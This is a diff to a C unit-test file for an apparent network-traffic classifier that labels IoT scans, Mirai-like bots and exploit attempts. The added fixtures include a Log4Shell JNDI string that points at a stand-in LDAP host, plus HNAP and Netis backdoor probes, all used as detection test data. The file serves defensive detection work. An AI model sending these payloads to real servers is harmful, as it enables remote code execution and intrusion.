@@ -1,7 +1,9 @@
 #include "classify/classify.h"
+#include "classify/payload.h"
 
 #include <setjmp.h>
 #include <stdarg.h>
+#include <stdbool.h>
 #include <stddef.h>
 #include <stdlib.h>
 #include <string.h>
@@ -18,7 +20,7 @@ enum {
     SCAN = 1 << MARK_scan,
     BROAD = 1 << MARK_iot_broad,
     STRICT = 1 << MARK_iot_strict | BROAD,
-    BOT = 1 << MARK_iot_bot,
+    BOT = 1 << MARK_iot_bot | 1 << MARK_iot_confirmed,
     MIRAI = 1 << MARK_tool_mirai,
     ZMAP = 1 << MARK_tool_zmap,
     DST = 0xc0000201, /* 192.0.2.1 */
@@ -127,7 +129,7 @@ static void test_labels(void **state)
     struct label labels[ROWS];
     for (unsigned i = 0; i < ROWS; i++)
         observations[i] = rows[i].o;
-    classify_batch(rules, NULL, observations, ROWS, labels);
+    classify_batch(rules, NULL, observations, ROWS, NULL, NULL, labels);
     for (unsigned i = 0; i < ROWS; i++) {
         const struct row *row = &rows[i];
         if (labels[i].kind != row->kind || labels[i].marks != row->marks)
@@ -136,8 +138,12 @@ static void test_labels(void **state)
         check_rule(row, labels[i].rules[0], row->iot);
         check_rule(row, labels[i].rules[1], row->service);
         assert_int_equal(labels[i].tools, labels[i].marks >> MARK_tool_mirai);
-        assert_int_equal(labels[i].evidence,
-                         row->iot[0] || row->service[0] ? EVIDENCE_port : EVIDENCE_none);
+        bool is_bot = row->kind == KIND_tcp_syn && row->marks & MIRAI;
+        assert_int_equal(labels[i].evidence, is_bot                           ? EVIDENCE_bot
+                                             : row->iot[0] || row->service[0] ? EVIDENCE_port
+                                                                              : EVIDENCE_none);
+        assert_int_equal(labels[i].payload_rule, RULE_NONE);
+        assert_int_equal(labels[i].is_assessable, row->kind == KIND_tcp_syn);
     }
 }
 
@@ -174,7 +180,7 @@ static void test_telescope(void **state)
     };
     struct label labels[5];
     assert_int_equal(prefix_set_create(&telescope, "192.0.2.1,2001:db8::/32", &fault), 0);
-    classify_batch(rules, telescope, observations, 5, labels);
+    classify_batch(rules, telescope, observations, 5, NULL, NULL, labels);
     for (unsigned i = 0; i < 5; i++) {
         assert_int_equal(labels[i].kind, expected[i].kind);
         assert_int_equal(labels[i].marks, expected[i].marks);
@@ -182,11 +188,115 @@ static void test_telescope(void **state)
     prefix_set_destroy(telescope);
 }
 
+enum {
+    SHARED = BROAD,
+    CONFIRMED = STRICT | 1 << MARK_iot_payload | 1 << MARK_iot_confirmed,
+};
+
+#define LOG4J "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.9/a}\r\n\r\n"
+#define HNAP  "GET /HNAP1/ HTTP/1.1\r\n\r\n"
+#define RTSP  "OPTIONS / RTSP/1.0\r\n\r\n"
+#define PLAIN "GET / HTTP/1.1\r\n\r\n"
+
+/* What a payload's rule makes of the label. */
+static const struct payload_label_row {
+    const char *what;
+    struct observation o;
+    const char *payload;
+    unsigned marks; /* but for total and scan */
+    const char *rule;
+    unsigned evidence, is_assessable;
+} payload_rows[] = {
+    {"strict, any port",
+     {TCP(TCP_ACK, 65000)},
+     HNAP,
+     CONFIRMED,
+     "iot-dlink-hnap",
+     EVIDENCE_payload,
+     1},
+    {"strict, shared port",
+     {TCP(TCP_ACK, 80)},
+     HNAP,
+     CONFIRMED,
+     "iot-dlink-hnap",
+     EVIDENCE_payload,
+     1},
+    {"shared, any port", {TCP(TCP_ACK, 65000)}, RTSP, SHARED, "iot-rtsp", EVIDENCE_payload, 1},
+    {"shared, strict port", {TCP(TCP_ACK, 23)}, RTSP, STRICT, "iot-rtsp", EVIDENCE_payload, 1},
+    {"not IoT, strict port", {TCP(TCP_ACK, 23)}, LOG4J, 0, "web-log4shell", EVIDENCE_payload, 1},
+    {"not IoT, shared port", {TCP(TCP_ACK, 80)}, LOG4J, 0, "web-log4shell", EVIDENCE_payload, 1},
+    {"no rule, port with one", {TCP(TCP_ACK, 80)}, PLAIN, SHARED, "", EVIDENCE_port, 1},
+    {"no rule at all", {TCP(TCP_ACK, 65000)}, PLAIN, 0, "", EVIDENCE_none, 1},
+    {"on a SYN", {TCP(TCP_SYN, 80)}, HNAP, CONFIRMED, "iot-dlink-hnap", EVIDENCE_payload, 1},
+    {"a bot's SYN that is not IoT",
+     {TCP(TCP_SYN, 23), .tcp_seq = DST},
+     LOG4J,
+     MIRAI,
+     "web-log4shell",
+     EVIDENCE_payload,
+     1},
+    {"a bot's SYN without rule",
+     {TCP(TCP_SYN, 23), .tcp_seq = DST},
+     PLAIN,
+     MIRAI | STRICT | BOT,
+     "",
+     EVIDENCE_bot,
+     1},
+    {"an answer", {TCP(TCP_SYN | TCP_ACK, 80)}, HNAP, 0, "", EVIDENCE_none, 0},
+    {"a FIN", {TCP(TCP_FIN, 80)}, HNAP, 0, "", EVIDENCE_none, 0},
+    {"UDP to a port that wants it",
+     {UDP(53413)},
+     "AA\0\0AAAA netcore",
+     CONFIRMED,
+     "iot-netis",
+     EVIDENCE_payload,
+     1},
+    {"UDP to one that does not", {UDP(65000)}, "AA\0\0AAAA netcore", 0, "", EVIDENCE_none, 0},
+    {"no byte caught", {TCP(TCP_ACK, 80)}, "", SHARED, "", EVIDENCE_port, 0},
+};
+enum { PAYLOAD_ROWS = sizeof payload_rows / sizeof payload_rows[0] };
+
+static void test_payloads(void **state)
+{
+    static const struct payload_settings settings = {.cache_dir = ""};
+    struct observation observations[PAYLOAD_ROWS];
+    struct label labels[PAYLOAD_ROWS];
+    uint8_t payloads[4096];
+    uint32_t at = 3;
+    struct fault fault;
+    if (!payload_is_built)
+        skip();
+    assert_int_equal(payload_load(rules, &settings, &fault), 0);
+    struct payload_scratch *scratch = payload_scratch_create(rules);
+    for (unsigned i = 0; i < PAYLOAD_ROWS; i++) {
+        const struct payload_label_row *row = &payload_rows[i];
+        size_t len = row->o.ip_proto == 17 ? 16 : strlen(row->payload);
+        observations[i] = row->o;
+        observations[i].payload_at = at;
+        observations[i].payload_len = 40;
+        observations[i].payload_caught = (uint16_t)len;
+        memcpy(payloads + at, row->payload, len);
+        at += (uint32_t)len;
+    }
+    classify_batch(rules, NULL, observations, PAYLOAD_ROWS, payloads, scratch, labels);
+    for (unsigned i = 0; i < PAYLOAD_ROWS; i++) {
+        const struct payload_label_row *row = &payload_rows[i];
+        const struct label *l = &labels[i];
+        const char *id = l->payload_rule == RULE_NONE ? "" : rules->rules[l->payload_rule].id;
+        if (strcmp(id, row->rule) != 0 || (l->marks & ~(unsigned)(TOTAL | SCAN)) != row->marks ||
+            l->evidence != row->evidence || l->is_assessable != row->is_assessable)
+            fail_msg("%s: '%s', marks %x, evidence %u, assessable %u", row->what, id, l->marks,
+                     l->evidence, l->is_assessable);
+    }
+    payload_scratch_destroy(scratch);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_labels),
         cmocka_unit_test(test_telescope),
+        cmocka_unit_test(test_payloads),
     };
     return cmocka_run_group_tests(tests, set_up, tear_down);
 }
